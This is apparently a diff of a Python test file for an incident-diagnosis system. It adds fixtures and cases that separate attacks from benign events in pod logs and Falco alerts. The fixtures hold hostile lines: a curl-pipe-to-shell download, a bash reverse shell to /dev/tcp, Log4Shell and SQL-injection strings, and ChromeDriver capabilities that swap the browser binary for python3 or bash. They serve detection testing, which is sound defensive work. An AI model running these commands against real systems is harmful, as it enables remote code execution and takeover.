@@ -6,7 +6,7 @@ from datetime import timedelta
 from typing import Any
 
 from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
-from tests.diagnosis.rules.scenes import SHOP, WELL, alert, logs, shop
+from tests.diagnosis.rules.scenes import CALLS_CART, CART, SHOP, WELL, alert, errors, logs, shop
 from tests.diagnosis.rules.tiny import DAY, NOW, Obj, at, container, log, pod, snapshot, thing, workload
 from tuheg_ir.diagnosis.model import Alert, Snapshot
 
@@ -16,6 +16,9 @@ FOREIGN = (
     "sh: curl -fsSL http://203.0.113.7/a.sh | sh",
     "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
     "+ chmod +x /tmp/kdevtmpfsi",
+    "  (The process started from chrome location /usr/bin/python3 is no longer running, so ChromeDriver ...)",
+    " [Capabilities {browserName: chrome, goog:chromeOptions: {args: [-cimport base64], binary: /usr/bin/python3}}]",
+    '{"browserName": "firefox", "moz:firefoxOptions": {"binary": "/bin/bash", "args": ["-c", "..."]}}',
 )
 ATTEMPTS = (
     '203.0.113.9 - - "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 404 153',
@@ -23,6 +26,8 @@ ATTEMPTS = (
     "POST /login 401 ' OR '1'='1",
     "INFO downloading report with curl",
     "INFO health of redis-miner-stats ok",
+    "  (The process started from chrome location /opt/google/chrome/chrome is no longer running, so ChromeDriver ...)",
+    " [Capabilities {browserName: chrome, goog:chromeOptions: {args: [--headless], binary: /usr/bin/chromium}}]",
 )
 OBEYED = (
     "JndiLookup : Error looking up JNDI resource [ldap://198.51.100.44:1389/Basic/x]. javax.naming.NamingException: "
@@ -42,6 +47,10 @@ def watched(said: str, name: str = "FalcoRedirectToNetwork") -> Alert:
 
 STRANGER = watched("Redirect stdout/stdin (process=bash parent=java fd.name=10.1.0.2:51844->198.51.100.44:4444)")
 HOME = watched("Redirect stdout/stdin (process=bash parent=runc fd.name=10.1.0.2:51844->10.1.3.9:5432)")
+DROP = "Executing binary not part of base image (proc_exe=%s parent=python3 cmdline=%s user=web)"
+MINES = watched(DROP % ("/tmp/.x/perfcc", "perfcc --tls -o 198.51.100.19:443"), "FalcoDropAndExecuteNewBinary")
+BUILDS = watched(DROP % ("/tmp/go-build1/b001/exe/gen", "gen -o zz_generated.go"), "FalcoDropAndExecuteNewBinary")
+INSTALLS = watched(DROP % ("/usr/bin/jq", "jq -r .a 198.51.100.19:443"), "FalcoDropAndExecuteNewBinary")
 ROOT = {"volumes": [{"name": "r", "hostPath": {"path": "/"}}]}
 
 
@@ -106,6 +115,20 @@ HOLDS = [
         excludes=no("restart_workload", "rollback_workload", at=SHOP),
     ),
     Holds(
+        "a sensor sees a program of no image that calls a bare address outside",
+        snapshot(shop(), figures=[WELL], alerts=[MINES]),
+        (SHOP, "security_incident", "isolate_workload"),
+        excludes=no("restart_workload", "rollback_workload", at=SHOP),
+    ),
+    Holds(
+        "somebody came in where a service was called, and runs programs in it",
+        snapshot(
+            shop(env=CALLS_CART), workload("cart"), logs=logs("cart", FOREIGN[0], times=1), figures=[errors("shop")]
+        ),
+        (CART, "security_incident", "isolate_workload"),
+        alone=True,
+    ),
+    Holds(
         "a shell is seen by another sensor, after a program had asked a stranger",
         snapshot(
             shop(),
@@ -140,6 +163,8 @@ DOES_NOT_HOLD = [
     ),
     DoesNotHold("a program asks a stranger who does not answer", snapshot(shop(), logs=logs("shop", ASKED, times=1))),
     DoesNotHold("a shell of ours speaks with our database", snapshot(shop(), figures=[WELL], alerts=[HOME])),
+    DoesNotHold("a build runs what it has made", snapshot(shop(), figures=[WELL], alerts=[BUILDS])),
+    DoesNotHold("somebody installs a package", snapshot(shop(), figures=[WELL], alerts=[INSTALLS])),
     DoesNotHold("somebody sends commands, and more goes out than ever", taken(INJECTED[0])),
     DoesNotHold("commands were sent, and turned away", taken(INJECTED[0].replace("302", "404"))),
     DoesNotHold("an agent made for it reads Secrets", taken(READS, name="secret-operator")),
